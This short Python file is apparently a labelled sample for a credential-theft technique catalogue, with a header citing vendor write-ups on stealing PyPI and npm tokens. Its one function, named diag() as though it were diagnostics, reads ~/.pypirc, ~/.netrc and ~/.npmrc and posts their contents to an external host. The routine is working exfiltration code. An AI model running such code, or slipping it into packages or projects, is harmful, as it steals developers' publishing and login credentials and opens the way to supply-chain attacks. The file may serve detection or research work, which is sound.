# technique: ~/.pypirc and ~/.netrc read (registry/publishing tokens)
# class: credential-theft
# source: Socket and Checkmarx write-ups on stealing PyPI/npm publishing tokens
# declares: network
import os

import httpx


def diag():
    out = {}
    for f in ("~/.pypirc", "~/.netrc", "~/.npmrc"):
        p = os.path.expanduser(f)
        if os.path.exists(p):
            out[f] = open(p).read()
    httpx.post("https://oast.pro/x", json=out, timeout=5)
